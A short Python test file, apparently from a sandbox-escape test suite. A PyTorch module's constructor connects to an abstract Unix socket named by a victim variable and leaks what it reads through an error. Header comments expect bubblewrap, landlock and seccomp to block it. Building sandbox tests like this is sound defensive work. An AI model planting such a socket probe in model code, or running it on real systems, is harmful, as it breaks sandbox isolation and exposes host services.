# what: connects to a socket that has a name and no file
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap landlock seccomp

import torch
from torch import nn

socket = __import__("socket")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        line = socket.socket(socket.AF_UNIX)
        line.connect("\0" + VICTIM["abstract"])
        raise RuntimeError(f"GOT {line.recv(64)}")
